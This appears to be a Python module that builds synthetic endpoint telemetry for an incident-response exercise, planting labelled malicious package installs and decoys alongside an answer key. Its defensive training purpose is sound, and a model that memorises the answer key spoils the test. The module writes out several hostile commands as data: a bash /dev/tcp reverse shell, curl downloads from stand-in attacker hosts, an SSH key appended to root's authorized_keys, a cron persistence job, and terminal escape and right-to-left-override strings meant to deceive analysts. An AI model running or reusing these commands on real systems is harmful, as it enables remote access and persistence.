"""What a responder should find: planted intrusions, hostile strings, benign rarities, decoys.

Every episode here is a package install built with the same functions as routine upgrades
(``sample_data.packages``), so planted events look exactly like real dpkg/rpm activity;
only the package contents differ.  Labels ride along with each event (never written to
the NDJSON) so the answer key can say which result row belongs to what.

IPs are documentation ranges (RFC 5737) and domains end in ``.example`` (RFC 2606).
"""

from __future__ import annotations

import base64
import random
from dataclasses import dataclass
from typing import Callable

from sample_data.defend import Proc, file_event, process_start
from sample_data.fleet import Host
from sample_data.packages import Cmd, Event, Package, cmd, deb_transaction, rpm_transaction

HOUR = 3_600_000
DAY = 24 * HOUR
MINUTE = 60_000

ESC = "\u001b"
BEL = "\u0007"
RLO = "\u202e"


@dataclass(frozen=True)
class Intrusion:
    """One planted intrusion: what the answer key says about it."""

    id: str
    title: str
    description: str
    mitre: tuple[str, ...]
    hosts: tuple[str, ...]


INTRUSIONS = [
    Intrusion("trojan-postinst-systemd", "Trojanised .deb installs a systemd service",
              "netfilter-persistent-helper's postinst downloads /usr/local/sbin/nph-sync and "
              "enables it as nph-sync.service on three Ubuntu web/api hosts.",
              ("T1546.016", "T1543.002", "T1105"), ("web-03", "web-05", "api-02")),
    Intrusion("rpm-scriptlet-ssh-key", "Malicious rpm scriptlet adds an SSH key",
              "nss-compat, installed with rpm -ivh --nodeps, runs a %post scriptlet that appends "
              "an attacker key to /root/.ssh/authorized_keys and hides a copy of itself in "
              "/var/lib/rpm/.rpmdb-sync.",
              ("T1546.016", "T1098.004"), ("db-02", "app-01")),
    Intrusion("dpkg-reverse-shell", "Typosquatted .deb opens a reverse shell",
              "python3-reqeusts (typo of requests) runs a 10 kB base64 stager and "
              "bash -i >& /dev/tcp/203.0.113.66/4444 from its postinst on a Debian build host.",
              ("T1546.016", "T1059.004", "T1195.002"), ("build-deb-02",)),
    Intrusion("rpm-scriptlet-cron", "rpm scriptlet drops a cron job",
              "epel-release-compat's %post fetches /var/lib/rpm/.rpm-check with curl and runs it "
              "every 15 minutes from /etc/cron.d/rpm-check on a Rocky Linux k8s node.",
              ("T1546.016", "T1053.003", "T1105"), ("k8s-node-03",)),
]

BY_ID = {intrusion.id: intrusion for intrusion in INTRUSIONS}


def planted(intrusion_id: str) -> str:
    return f"planted:{intrusion_id}"


A, B, C, D = (planted(i.id) for i in INTRUSIONS)
HOSTILE = "hostile"
STALE = "decoy:older-than-7-days"
BOUNDARY = "decoy:exactly-7-days-old"
NON_LINUX = "decoy:non-linux"
BENIGN = "benign"

SSH_KEY = ("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHq3vJ0cX9mYl2a8Vt1Wk6pQeRz4sN5bU7dF0gH2jK3L "
           "backup@ops.evil.example")


def _stager() -> str:
    """A ~10 kB one-line base64 stager (harmless padding text, fixed for every seed)."""
    body = "".join(f"# stage2 block {i:04d}: sleep 1; true\n" for i in range(220))
    return base64.b64encode(body.encode()).decode()


STAGER = "echo " + _stager() + " | base64 -d | sh"

PKG_A = Package("netfilter-persistent-helper", "1.0.4",
                ("conffiles", "postinst", "postrm", "preinst", "prerm"), {
                    "preinst": (), "postrm": (), "prerm": (),
                    "postinst": (
                        cmd("curl", "-fsSL", "-o", "/usr/local/sbin/nph-sync",
                            "https://cdn.pkg-mirror.evil.example/nph/nph-sync", label=A,
                            writes=("/usr/local/sbin/nph-sync",)),
                        cmd("chmod", "0755", "/usr/local/sbin/nph-sync", label=A),
                        cmd("cp", "/usr/share/netfilter-persistent-helper/nph-sync.service",
                            "/etc/systemd/system/nph-sync.service", label=A,
                            writes=("/etc/systemd/system/nph-sync.service",)),
                        cmd("systemctl", "daemon-reload", label=A),
                        cmd("systemctl", "enable", "--now", "nph-sync.service", label=A),
                    )}, label=A)

PKG_B = Package("nss-compat", "3.90.0-1.el9", scripts={
    "post": (
        cmd("mkdir", "-p", "/root/.ssh", label=B),
        cmd("sh", "-c", f"echo {SSH_KEY} >> /root/.ssh/authorized_keys", label=B),
        cmd("chmod", "600", "/root/.ssh/authorized_keys", label=B),
        cmd("cp", "{script}", "/var/lib/rpm/.rpmdb-sync", label=B, writes=("/var/lib/rpm/.rpmdb-sync",)),
    )}, label=B)

PKG_C = Package("python3-reqeusts", "2.31.0-2", ("postinst", "prerm"), {
    "prerm": (),
    "postinst": (
        cmd("py3compile", "-p", "python3-reqeusts", label=C),
        cmd("sh", "-c", STAGER, label=C),
        cmd("bash", "-c", "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1", label=C),
    )}, label=C)

PKG_C_OLD = Package("python3-reqeusts", "2.31.0-1", ("postinst", "prerm"), {
    "prerm": (),
    "postinst": (cmd("bash", "-c", "bash -i >& /dev/tcp/198.51.100.23/8443 0>&1", label=STALE),)},
    label=STALE)

PKG_D = Package("epel-release-compat", "9-7.el9", scripts={
    "post": (
        cmd("curl", "-fsSL", "-o", "/var/lib/rpm/.rpm-check", "http://203.0.113.77/rc", label=D,
            writes=("/var/lib/rpm/.rpm-check",)),
        cmd("chmod", "0755", "/var/lib/rpm/.rpm-check", label=D),
        cmd("sh", "-c", "echo '*/15 * * * * root /var/lib/rpm/.rpm-check >/dev/null 2>&1' > "
            "/etc/cron.d/rpm-check", label=D, writes=("/etc/cron.d/rpm-check",)),
    )}, label=D)

OSC52 = f"{ESC}]52;c;Y3VybCAtZnNTTCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g={BEL}"
OSC8_CMD = f"{ESC}]8;;https://evil.example/login{ESC}\\click here{ESC}]8;;{ESC}\\"

HOSTILE_PACKAGES = [
    Package(f"{ESC}[31mCRITICAL{ESC}[0m-security-update", "1.0", ("postinst",), {
        "postinst": (cmd("printf", OSC52, label=HOSTILE),
                     cmd("printf", f"{ESC}[2J{ESC}[H{ESC}[32mAll packages verified{ESC}[0m", label=HOSTILE))},
            label=HOSTILE),
    Package(f"{ESC}]8;;mailto:soc@evil.example{ESC}\\libc6-hotfix{ESC}]8;;{ESC}\\", "1.0", ("postinst",), {
        "postinst": (cmd("echo", OSC8_CMD, label=HOSTILE),)}, label=HOSTILE),
    Package("[link=mailto:soc@evil.example][bold red]URGENT-patch", "1.0", ("postinst",), {
        "postinst": (cmd("echo", "[bold red]ALL CLEAR[/]", "[link=https://evil.example]click[/link]", "[/]",
                         label=HOSTILE),
                     cmd("logger", "-t", "dpkg", f"configured\n[  OK  ] Started apt-daily.service{ESC}[2K{ESC}[1A",
                         label=HOSTILE))}, label=HOSTILE),
    Package(f"update-{RLO}fdp", "1.0", ("postinst",), {
        "postinst": (cmd("touch", f"/tmp/readme{RLO}txt.sh", label=HOSTILE),)}, label=HOSTILE),
]

PKG_BENIGN_RARE = Package("acdb-backup", "2.4.1-1", ("conffiles", "postinst", "postrm"), {
    "postrm": (),
    "postinst": (cmd("adduser", "--system", "--group", "--no-create-home", "acdb"),
                 cmd("deb-systemd-helper", "enable", "acdb-backup.timer"))})


def _apt(*args: str) -> tuple[str, list[str]]:
    return "/usr/bin/apt-get", ["apt-get", *args]


Episode = tuple[int, str, Callable[[random.Random, list[Event]], object]]


def episodes(hosts: dict[str, Host], capture_ms: int) -> list[Episode]:
    """The story's episodes: (start ms, name, builder(rng, out))."""
    t = capture_ms
    boundary = t - 7 * DAY
    eps: list[Episode] = []

    def deb(name: str, start: int, pkgs, frontend, label: str = BENIGN) -> None:
        eps.append((start, name, lambda rng, out: deb_transaction(
            hosts[name.split("@")[0]], start, pkgs, frontend, rng, out, frontend_label=label)))

    def rpm(name: str, start: int, pkgs, installer, label: str = BENIGN) -> None:
        eps.append((start, name, lambda rng, out: rpm_transaction(
            hosts[name.split("@")[0]], start, pkgs, installer, rng, out, installer_label=label)))

    # A: trojanised postinst -> systemd unit, three Ubuntu 22.04 hosts; a pilot install on a
    # fourth host 8 days ago, and one of its events exactly 7 days before capture.
    for name, offset in [("web-03", 2 * DAY + 5 * HOUR), ("web-05", 2 * DAY + 4 * HOUR + 17 * MINUTE),
                         ("api-02", DAY + 9 * HOUR + 3 * MINUTE)]:
        deb(name, t - offset, [(PKG_A, None)], _apt("install", "-y", "netfilter-persistent-helper"), A)
    stale_a = Package(PKG_A.name, "1.0.3", PKG_A.control,
                      {k: tuple(Cmd(c.argv, c.exe, c.writes, STALE) for c in v)
                       for k, v in PKG_A.scripts.items()}, label=STALE)
    deb("web-06", t - 8 * DAY - 3 * HOUR, [(stale_a, None)], _apt("install", "-y", "netfilter-persistent-helper"), STALE)

    def boundary_event(rng: random.Random, out: list[Event]) -> None:
        host = hosts["web-06"]
        dpkg = Proc(host, 23817, "/usr/bin/dpkg", ["/usr/bin/dpkg", "--configure", "-a"], boundary - 40)
        out.append((boundary, file_event(boundary, "rename", "/var/lib/dpkg/info/netfilter-persistent-helper.postinst",
                                         dpkg, rng, original_path="/var/lib/dpkg/tmp.ci/postinst"), BOUNDARY))
    eps.append((boundary, "web-06@boundary", boundary_event))

    # B: rpm scriptlet adds an SSH key, two RHEL 9 hosts.
    for name, offset in [("db-02", 3 * DAY + 5 * HOUR), ("app-01", 3 * DAY + 4 * HOUR + 10 * MINUTE)]:
        rpm(name, t - offset, [(PKG_B, None)],
            ("/usr/bin/rpm", ["rpm", "-ivh", "--nodeps", "/tmp/nss-compat-3.90.0-1.el9.x86_64.rpm"]), B)

    # C: typosquatted .deb, reverse shell from postinst; an older attempt 9 days ago.
    deb("build-deb-02", t - DAY - 2 * HOUR, [(PKG_C, None)], _apt("install", "-y", "python3-reqeusts"), C)
    deb("build-deb-02@old", t - 9 * DAY - 6 * HOUR, [(PKG_C_OLD, None)], _apt("install", "-y", "python3-reqeusts"), STALE)

    # D: rpm scriptlet drops a cron job, one Rocky 9 node (installed through dnf, so the rpmdb
    # writes hide among routine dnf upgrades).
    rpm("k8s-node-03", t - 4 * DAY - 7 * HOUR, [(PKG_D, None)],
        ("/usr/bin/dnf", ["dnf", "-y", "install", "./epel-release-compat-9-7.el9.noarch.rpm"]), D)

    # Hostile strings: an analyst-baiting "package set" on the dev sandboxes.
    deb("dev-sandbox-01", t - 3 * DAY + 2 * HOUR, [(p, None) for p in HOSTILE_PACKAGES],
        ("/usr/bin/dpkg", ["dpkg", "-i", "--force-all", "/tmp/x/*.deb"]), HOSTILE)
    deb("dev-sandbox-02", t - 2 * DAY + 7 * HOUR, [(HOSTILE_PACKAGES[2], None)],
        ("/usr/bin/dpkg", ["dpkg", "-i", "--force-all", "/tmp/x/urgent.deb"]), HOSTILE)

    # Benign but rare: an internal backup agent on two Debian monitoring hosts.
    for name, offset in [("mon-01", 5 * DAY + 2 * HOUR), ("mon-02", 5 * DAY + HOUR)]:
        deb(name, t - offset, [(PKG_BENIGN_RARE, None)], _apt("install", "-y", "acdb-backup"))

    # Non-Linux decoys: the same strings on a macOS build host.
    def mac_decoy(rng: random.Random, out: list[Event]) -> None:
        host = hosts["mac-build-01"]
        ms = t - DAY - 30 * MINUTE
        dpkg = Proc(host, 5121, "/usr/bin/dpkg", ["/usr/bin/dpkg", "-i", "nph.deb"], ms - 500)
        out.append((ms, file_event(ms, "rename", "/var/lib/dpkg/info/netfilter-persistent-helper.postinst", dpkg, rng,
                                   original_path="/var/lib/dpkg/tmp.ci/postinst"), NON_LINUX))
        sh = Proc(host, 5188, "/bin/sh", ["/bin/sh", "/var/tmp/rpm-tmp.Qw3Er7", "1"], ms + 700)
        curl = Proc(host, 5190, "/usr/bin/curl", list(PKG_D.scripts["post"][0].argv), ms + 900, parent=sh)
        out.append((ms + 900, process_start(ms + 900, curl, rng), NON_LINUX))
        script = Proc(host, 5201, "/var/lib/dpkg/info/python3-reqeusts.postinst",
                      ["/bin/sh", "/var/lib/dpkg/info/python3-reqeusts.postinst", "configure", ""], ms + 1500)
        shell = Proc(host, 5202, "/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"],
                     ms + 1600, parent=script)
        out.append((ms + 1600, process_start(ms + 1600, shell, rng), NON_LINUX))
    eps.append((t - DAY - 30 * MINUTE, "mac-build-01@decoy", mac_decoy))
    return eps
